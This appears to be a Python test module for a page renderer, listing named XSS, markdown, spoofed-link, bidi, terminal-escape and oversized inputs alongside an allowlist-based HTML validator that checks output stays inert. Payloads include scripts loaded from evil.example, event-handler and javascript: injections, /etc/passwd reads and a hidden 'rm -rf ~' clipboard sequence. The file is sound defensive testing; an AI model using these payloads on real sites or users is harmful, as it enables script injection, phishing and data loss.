"""Texts that try to get out of a page, and what HTML made of any text may hold."""
# ruff: noqa: E501 - a text is easier to read on one line

import re
from html.parser import HTMLParser

from lettaspace.page.inert import inert_block

HOSTILE: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script in the middle": "before</p></div><script src=//evil.example/x.js></script>after",
    "image handler": "<img src=x onerror=alert(1)>",
    "svg": '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg style": "<svg><style>@import url(//evil.example/a.css);</style></svg>",
    "math": '<math href="javascript:alert(1)"><mtext><img src onerror=alert(1)></mtext></math>',
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/a.css>",
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">',
    "form": '<form action="//evil.example"><input name=x autofocus onfocus=alert(1)><button>',
    "textarea": "</textarea></title></style></script></noscript></template><script>alert(1)//",
    "comment": "<!-- --><!--><img src=x onerror=alert(1)>--> <!--[if IE]><script>1</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]> <?xml version='1.0'?><!DOCTYPE html>",
    "half a tag": "<img src='x' onerror='alert(1)",
    "html block": "<div onclick=alert(1) style=position:fixed;inset:0 class=m id=main>\nx\n\n</div>",
    "html in markdown": "- <a href=javascript:alert(1)>x</a>\n\n> <b onmouseover=alert(1)>y</b>\n",
    "out of an attribute": "\" onmouseover=\"alert(1)\" x=\"' onfocus='alert(1)' autofocus='",
    "out of pre": "```\n</code></pre><script>alert(1)</script>\n```",
    "out of a template": "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} <%= 7 %> #{7}",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3c;b&#x3e;",
    "entities without ends": "&lt<script &#60script &#x3Cscript &amp;lt;script&amp;gt;",
    "entities of controls": "&#0; &#8; &#x1b;[2J &#x9b;2J &#x202e;txt.exe &#x200b; &#xd800; &#x110000;",
    "javascript link": "[x](javascript:alert(1)) <javascript:alert(1)> [x](<javascript:alert(1)>)",
    "javascript, upper case": "[x](JaVaScRiPt:alert(1)) <JAVASCRIPT:alert(1)>",
    "javascript, entities": "[x](&#106;avascript:alert(1)) [y](&#x6A;avascript&colon;alert(1))",
    "javascript, tab": "[x](java&#9;script:alert(1)) [y](java&Tab;script:alert(1)) [z](<java\tscript:a>)",
    "javascript, newline": "[x](java&#10;script:alert(1)) [y](java&NewLine;script:alert(1))",
    "javascript, controls": "[x](\x01javascript:alert(1)) [y](&#1;javascript:alert(1)) [z](\x00javascript:a)",
    "javascript, spaces": "[x](< javascript:alert(1)>) [y](&#32;javascript:a) [z](&nbsp;javascript:a)",
    "javascript, escapes": "[x](\\javascript:alert(1)) [y](javascript\\:alert(1)) [z](j%61vascript:a)",
    "javascript, zero width": "[x](java\u200bscript:alert(1)) [y](\ufeffjavascript:a) [z](java\u00adscript:a)",
    "javascript, references": "[x][1] [1] ![x][1]\n\n[1]: javascript:alert(1) 'title'",
    "javascript, comment": "[x](javascript://bank.example/%0Aalert(1)) [y](https:javascript:alert(1))",
    "javascript in a title": "[x](https://a.example \"' onmouseover='alert(1)\") ![x](https://a.example '\"><b>')",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![x](data:image/svg+xml,<svg>)",
    "other schemes": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](view-source:x) [e](ftp://x) [f](intent://x)",
    "relative links": "[a](/logout) [b](//evil.example) [c](../x) [d](?q=1) [e](#main) [f](\\\\evil.example) [g]()",
    "broken web links": "[a](https:evil) [b](https:///evil.example) [c](https:/\\evil.example) [d](http://) [e](https://%65vil)",
    "user names in links": "[https://bank.example](https://bank.example@evil.example) <https://bank.example:pw@evil.example/>",
    "backslash in a host": "[x](https://bank.example\\@evil.example) [y](https://bank.example\\.evil.example)",
    "other text than target": "[https://bank.example](https://evil.example) [bank．example](https://evil.example)",
    "confusable host": "[https://apple.com](https://аррӏе.com) <https://аррӏе.com/>",
    "out of an href": '[x](https://a.example/"onmouseover="alert(1)) [y](https://a.example/\'><script>) <https://a.example/"x>',
    "bare links": 'https://a.example/"onclick=alert(1) https://a.example/<script> https://a@b https://\u202eevil.example',
    "mailto": "[x](mailto:a@b.example?body=<script>) [y](mailto:a@b@c) [z](mailto:&#106;avascript:a)",
    "images": "![x](https://evil.example/pixel.gif) ![](//evil.example/p.gif) [![x](y)](https://a.example) ![[a](b)](c)",
    "link in a link": "[a [b](https://b.example) ![c](https://c.example) https://d.example](https://a.example)",
    "attributes": "# x {#main .m onclick=alert(1)}\n\n[x](https://a.example){onclick=alert(1)} {.m}",
    "fence attributes": '```"><script>alert(1)</script>\nx\n```\n\n```{.python #main onclick=1}\nx\n```\n\n~~~ x" onclick="1\ny\n~~~',
    "table": "| a | <b> |\n|:-:|--:|\n| <script> | `<i>` | hidden |\n| \u202e | [x](javascript:a) |",
    "definitions": '[//]: # (hidden words)\n[a]: javascript:alert(1)\n[a]: https://a.example "<b>"',
    "html with handlers": "<details open ontoggle=alert(1)><summary>x</summary></details><video onerror=alert(1)><source>",
    "bidi": "invoice_\u202etxt.exe \u2066\u2067\u2068\u2069 \u202a\u202b\u202c\u202d \u061c\u200e\u200f",
    "right to left": "עברית and English, קובץ.txt\n\n- عربي (1) `x`\n\n| א | ב |\n|---|---|\n| 1 | 2 |",
    "zero width": "pass\u200bword \u2060\ufeff\u00ad\u180e\u115f\u3164 \u034f",
    "tags": "a\U000e0001\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007fb",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07 \x1b]52;c;aGk=\x1b\\ \x9d52;c;aGk=\x9c",
    "screen": "\x1b[2J\x1b[H\x1b[?1049h\x1bc\x9b2J\x9b31mred\x9b0m \x1b[6n \x1b[21t",
    "title and links": "\x1b]0;title\x07 \x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\",
    "styles": "\x1b[1;31mred\x1b[0m \x1b[8mhidden\x1b[28m \x1b[30;40mblack\x1b[m \x1b[38;2;1;2;3mx \x1b[38;5;mx \x1b[38m",
    "styles, broken": '\x1b[31 \x1b[999999999999m \x1b[;;;m \x1b[38;5 \x1b[31;"><script>m \x1b['
    + "1;" * 99
    + "m",
    "controls": "".join(map(chr, range(32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
    "overstrike": "rm -rf ~\rls      \b\b\b\b ok\x0b\x0c\x85\u2028\u2029end",
    "null": "a\x00b <scr\x00ipt>alert(1)</scr\x00ipt> [x](java\x00script:alert(1)) \x00",
    "surrogates": "\ud800 \udfff \ude00\ud83d \ud83d\ude00 [\ud800](https://a.example/\udc00) `\ud800`",
    "noncharacters": "\ufffe \uffff \ufdd0 \U0001ffff \U0010ffff \ufff9x\ufffay\ufffb",
    "stacked marks": "Z" + "\u0334\u0321\u0348\u0362" * 200,
    "json": '{"__proto__": {"x": 1}, "</script><script>alert(1)</script>": "\u202e\ud800 \\u003cb>", "n": 1e999}',
    "diff": '--- a/<b>\n+++ b/"onclick=\n@@ -1 +1 @@ <script>\n-\u202eold<i>\n+\x1b[2Jnew</code>\n',
    "patch": "*** Begin Patch\n*** Update File: <script>\n@@ <b>\n-\u202e\n+</code></pre>\n*** End Patch",
}
"""Name and text. Each is to be shown, and to do nothing else."""

HUGE: dict[str, str] = {
    "quotes": ">" * 10_000 + " x",
    "lists": "- " * 10_000 + "x",
    "indented lists": "\n".join("  " * depth + "- x" for depth in range(400)),
    "brackets": "[" * 10_000 + "x" + "]" * 10_000,
    "images": "![" * 10_000,
    "links": "[a](" * 10_000,
    "emphasis": "*a **b _c __d " * 5_000,
    "backticks": "".join("`" * length + "a" for length in range(300)),
    "tags": "<" * 20_000 + "<!--" * 5_000 + "<?" * 5_000,
    "entities": "&" * 20_000 + "&#" * 10_000,
    "escapes": "\\" * 50_000,
    "definitions": "[a]: b\n" * 10_000,
    "tables": "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "|\n" * 10_000,
    "one line": "a" * 300_000,
    "lines": "a\n" * 100_000,
    "blank lines": " \n" * 50_000,
    "quotes for a lexer": '\\"' * 25_000,
    "addresses": "https://a.example/( " * 5_000 + "a." * 20_000,
    "right to left": "\u202e\u05d0" * 20_000,
    "styles": "\x1b[31m" * 20_000 + "x",
    "objects": '{"a":' * 500 + "1" + "}" * 500,
    "hunks": "--- a\n+++ b\n" + "@@ -1 +1 @@\n-a\n+b\n" * 10_000,
}
"""Texts that are large, or deep, or made to take long."""

_COMMON = {"dir", "class"}
_ALLOWED: dict[str, set[str]] = {
    "a": {"href", "rel", "target", "title"},
    "div": {"class", "tabindex"},
    "pre": {"class", "tabindex"},
    "ol": {"start"},
    "summary": {"data-more"},
}
_TAGS = "blockquote code dd details dl dt em h3 h4 h5 h6 li p s span strong table tbody td th thead tr ul"
_ALLOWED |= dict.fromkeys(_TAGS.split(), _COMMON)
_VOID = {"br", "hr"}
_VALUES = {
    "href": r"(?i:https?://|mailto:)[!-~]+",
    "rel": "noopener noreferrer nofollow",
    "target": "_blank",
    "title": r"[^\n]+",
    "dir": "auto",
    "class": r"[a-z][a-z0-9-]*(?: [a-z][a-z0-9-]*)*",
    "tabindex": "0",
    "start": "[0-9]+",
    "data-more": "[0-9,]+",
}
_CLASSES = re.compile(
    r"arguments|code|diff|json|left|center|right|note|scroll|target|terminal|"
    r"[sj]-[a-z0-9]+|t-[a-z-]+|d-(?:add|del|hunk|file)"
)
# Quotes only: html.parser drops references to control characters, which browsers don't.
_REFERENCE = re.compile("&#(?!3[49];)")
_NOT_IN_PARAGRAPH = {"p", "div", "pre", "ul", "ol", "dl", "table", "blockquote", "details"}


class Page(HTMLParser):
    """A piece of HTML: `text` is its text, `problems` what it may not hold."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.hrefs: list[str] = []
        self.text = ""
        self.tags: list[str] = []
        html.encode()
        if _REFERENCE.search(html):
            self.problems.append("character reference by number")
        self._open: list[str] = []
        self.feed(str.__str__(html))
        self.close()
        if self._open:
            self.problems.append(f"never closed: {self._open}")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag in _VOID:
            if attrs:
                self.problems.append(f"attributes of <{tag}>")
            return
        if tag not in _ALLOWED:
            self.problems.append(f"<{tag}>")
        outer = "a" if tag == "a" else "p" if tag in _NOT_IN_PARAGRAPH else tag
        if tag in ("a", *_NOT_IN_PARAGRAPH) and outer in self._open:
            self.problems.append(f"<{tag}> inside {self._open}")
        self._open.append(tag)
        if len({name for name, _ in attrs}) < len(attrs):
            self.problems.append(f"attributes given twice: {attrs}")
        for name, value in attrs:
            if name not in _ALLOWED.get(tag, ()) or not re.fullmatch(_VALUES[name], value or ""):
                self.problems.append(f"<{tag} {name}={value!r}>")
            elif name == "class" and not all(map(_CLASSES.fullmatch, (value or "").split())):
                self.problems.append(f"class {value!r}")
            elif name == "href":
                self.hrefs.append(value or "")
            self._check_text(value or "")

    def handle_endtag(self, tag: str) -> None:
        if not self._open or self._open.pop() != tag:
            self.problems.append(f"</{tag}> where none was open")

    def handle_data(self, data: str) -> None:
        self.text += data
        self._check_text(data)

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"instruction {data!r}")

    def _check_text(self, text: str) -> None:
        if inert_block(text) != text:
            self.problems.append(f"active characters in {text[:80]!r}")
